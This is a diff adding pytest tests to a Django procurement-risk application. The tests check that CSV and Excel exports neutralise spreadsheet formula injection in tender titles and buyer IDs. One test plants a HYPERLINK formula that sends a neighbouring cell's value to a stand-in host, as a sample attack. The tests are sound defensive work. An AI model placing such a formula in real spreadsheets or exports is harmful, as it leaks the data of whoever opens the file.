@@ -200,6 +200,38 @@ def test_exports(world: World, personas: Personas, client_for) -> None:
     assert len(rows) == 7
 
 
+def test_no_exported_title_runs_as_a_formula(
+    world: World, personas: Personas, client_for
+) -> None:
+    from openpyxl import load_workbook
+
+    # Titles come from e-procurement data: one may be written to run in the analyst's Excel.
+    attack = '=HYPERLINK("https://contoh.invalid/?"&A2,"Klik")'
+    TenderRisk.objects.filter(ocid="ocds-test-100").update(title=attack)
+    client = client_for(world.analyst)
+    slug = personas.org.slug
+    csv_text = b"".join(client.get(f"/pbj/{slug}/tenders/export.csv").streaming_content)
+    assert f"'{attack}".replace('"', '""') in csv_text.decode("utf-8-sig")
+    sheet = load_workbook(io.BytesIO(client.get(f"/pbj/{slug}/tenders/export.xlsx").content))
+    [cell] = [c for row in sheet.active.iter_rows() for c in row if c.value == attack]
+    assert cell.data_type == "s"
+
+
+def test_buyer_ids_a_spreadsheet_would_run_survive_the_mapping_round_trip(
+    world: World, personas: Personas, client_for
+) -> None:
+    odd = Buyer.objects.create(buyer_id="-SATKER-9", name="=Satker ganjil")
+    client = client_for(world.kpk_analyst)
+    listing = b"".join(client.get("/pbj/kpk-uji/buyers.csv").streaming_content).decode("utf-8-sig")
+    [line] = [line for line in listing.splitlines() if "SATKER-9" in line]
+    assert line == "'-SATKER-9,'=Satker ganjil,"
+    text = f"buyer_id,name,organisation\n{line}{personas.org.slug}"
+    response = client.post("/pbj/kpk-uji/buyers/map/", {"mapping": _mapping(text)})
+    assert response.status_code == 302
+    odd.refresh_from_db()
+    assert odd.organisation == personas.org
+
+
 def test_csv_holds_every_tender_and_xlsx_at_most_max_rows(
     world: World, personas: Personas, client_for, monkeypatch: pytest.MonkeyPatch
 ) -> None:
